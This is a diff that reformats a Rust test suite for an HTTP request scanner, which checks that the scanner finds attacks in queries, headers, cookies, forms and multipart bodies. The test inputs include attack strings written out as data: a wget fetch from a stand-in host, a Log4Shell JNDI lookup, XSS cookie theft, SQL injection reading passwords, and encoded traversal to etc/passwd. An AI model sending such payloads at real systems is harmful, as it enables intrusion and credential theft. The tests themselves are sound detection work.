@@ -1,3 +1,5 @@
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "test helpers outside #[test] functions")]
+
 //! The request scanner end to end: every location, the policy knobs (threshold, paranoia, mode,
 //! exclusions, skip set, headers, body cap), accept and reject for each.
 
@@ -71,12 +73,15 @@ fn query_path_header_cookie_form_multipart_locations() {
     let r = ins.scan_request(&RequestView::new("GET").with_header("X-Other", b"x; wget http://evil.test/s"));
     assert_eq!(r.verdict, Verdict::Allow);
 
-    let r = ins.scan_request(&RequestView::new("GET").with_header("Cookie", b"theme=dark; pref=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D"));
+    let r = ins.scan_request(
+        &RequestView::new("GET").with_header("Cookie", b"theme=dark; pref=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D"),
+    );
     assert_eq!(r.findings[0].location, Location::Cookie("pref".into()));
     assert_eq!(r.findings[0].class, AttackClass::Log4Shell);
 
     let form = b"name=O%27Brien&comment=%7B%7B7*7%7D%7D";
-    let r = ins.scan_request(&RequestView::new("POST").with_body(Some("application/x-www-form-urlencoded"), form, false));
+    let r =
+        ins.scan_request(&RequestView::new("POST").with_body(Some("application/x-www-form-urlencoded"), form, false));
     assert_eq!(r.findings[0].location, Location::Form("comment".into()));
 
     let mp = b"--b\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n<img src=x onerror=steal()>\r\n--b--\r\n";
@@ -86,12 +91,16 @@ fn query_path_header_cookie_form_multipart_locations() {
 
 #[test]
 fn user_agent_scanners_and_referer() {
-    let r = default().scan_request(&RequestView::new("GET").with_header("User-Agent", b"sqlmap/1.8 (https://sqlmap.org)"));
+    let r =
+        default().scan_request(&RequestView::new("GET").with_header("User-Agent", b"sqlmap/1.8 (https://sqlmap.org)"));
     assert_eq!(rules(&r), ["scanner-ua"]);
-    let r = default()
-        .scan_request(&RequestView::new("GET").with_header("User-Agent", b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/126.0"));
+    let r = default().scan_request(
+        &RequestView::new("GET").with_header("User-Agent", b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/126.0"),
+    );
     assert_eq!(r.verdict, Verdict::Allow);
-    let r = default().scan_request(&RequestView::new("GET").with_header("Referer", b"https://x.test/?q=' UNION SELECT pass FROM users--"));
+    let r = default().scan_request(
+        &RequestView::new("GET").with_header("Referer", b"https://x.test/?q=' UNION SELECT pass FROM users--"),
+    );
     assert_eq!(r.verdict, Verdict::Block);
 }
 
@@ -111,9 +120,9 @@ fn xml_bodies_xxe_and_text_nodes() {
 #[test]
 fn encodings_are_seen_through() {
     for q in [
-        "q=%253Cscript%253Ego()%253C%252Fscript%253E",          // double URL encoding
-        "q=PHNjcmlwdD5nbygpPC9zY3JpcHQ%2B",                       // base64
-        "q=%5Cu003cscript%5Cu003ego()%5Cu003c/script%5Cu003e",   // \uXXXX
+        "q=%253Cscript%253Ego()%253C%252Fscript%253E", // double URL encoding
+        "q=PHNjcmlwdD5nbygpPC9zY3JpcHQ%2B",            // base64
+        "q=%5Cu003cscript%5Cu003ego()%5Cu003c/script%5Cu003e", // \uXXXX
         "q=%26lt%3Bscript%26gt%3Bgo()%26lt%3B%2Fscript%26gt%3B", // HTML entities
         "q=%C0%AE%C0%AE%C0%AF%C0%AE%C0%AE%C0%AFetc%C0%AFpasswd", // overlong UTF-8
         "q=%EF%BC%9Cscript%EF%BC%9Ego()%EF%BC%9C/script%EF%BC%9E", // full-width
@@ -139,7 +148,8 @@ fn threshold_and_paranoia() {
 #[test]
 fn monitor_mode_flags_instead_of_blocking() {
     let ins = inspector(InspectPolicy { mode: Mode::Monitor, ..InspectPolicy::default() });
-    let r = ins.scan_request(&RequestView::new("GET").with_query(Some("id=1%20UNION%20SELECT%20password%20FROM%20users")));
+    let r =
+        ins.scan_request(&RequestView::new("GET").with_query(Some("id=1%20UNION%20SELECT%20password%20FROM%20users")));
     assert_eq!(r.verdict, Verdict::MonitorFlagged);
 }
 
@@ -148,7 +158,10 @@ fn exclusions_by_rule_class_and_location() {
     let attack = r#"{"ticket":{"text":"SELECT 1 UNION SELECT password FROM users"},"title":"1 UNION SELECT 2"}"#;
     // By pointer and class: only the ticket text is excused.
     let ins = inspector(InspectPolicy {
-        exclusions: vec![Exclusion { rule: Some("sqli".into()), target: Some(Target::parse("body:/ticket/text").unwrap()) }],
+        exclusions: vec![Exclusion {
+            rule: Some("sqli".into()),
+            target: Some(Target::parse("body:/ticket/text").unwrap()),
+        }],
         ..InspectPolicy::default()
     });
     let r = json(&ins, attack);
@@ -215,7 +228,8 @@ fn malformed_json_is_scanned_as_text() {
 
 #[test]
 fn display_never_prints_the_payload() {
-    let r = default().scan_request(&RequestView::new("GET").with_query(Some("q=%3Cscript%3Esteal(document.cookie)%3C%2Fscript%3E")));
+    let r = default()
+        .scan_request(&RequestView::new("GET").with_query(Some("q=%3Cscript%3Esteal(document.cookie)%3C%2Fscript%3E")));
     let shown = r.findings.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n");
     assert!(shown.contains("xss"));
     assert!(!shown.contains("steal"), "{shown}");
